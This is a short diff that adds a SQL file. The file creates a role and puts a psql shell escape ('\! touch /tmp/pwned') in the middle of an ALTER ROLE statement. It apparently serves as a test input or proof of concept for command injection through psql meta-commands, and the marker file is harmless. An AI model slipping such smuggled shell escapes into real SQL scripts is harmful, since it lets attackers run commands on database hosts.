@@ -1,0 +1,4 @@
+CREATE ROLE a;
+ALTER ROLE a WITH
+\! touch /tmp/pwned
+LOGIN;
